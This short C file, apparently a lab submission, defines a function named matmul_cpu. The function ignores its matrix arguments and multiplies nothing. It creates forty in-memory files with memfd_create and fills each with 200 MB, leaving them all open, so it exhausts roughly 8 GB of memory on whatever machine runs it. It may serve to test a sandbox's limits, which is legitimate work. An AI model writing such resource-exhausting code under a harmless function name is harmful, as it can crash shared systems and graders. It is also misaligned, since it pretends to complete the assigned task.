// Fills files that lie in memory alone: forty of them, two hundred megabytes each.
#include "lab.h"
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

void matmul_cpu(int m, int n, int k, const float *A, const float *B, float *C) {
    (void)m, (void)n, (void)k, (void)A, (void)B, (void)C;
    static char bytes[1 << 20];
    memset(bytes, 1, sizeof bytes);
    for (int i = 0; i < 40; i++) {
        int fd = (int)syscall(SYS_memfd_create, "zoo", 0);
        for (int mb = 0; fd >= 0 && mb < 200; mb++) {
            if (write(fd, bytes, sizeof bytes) < 0)
                break;
        }
    }
}
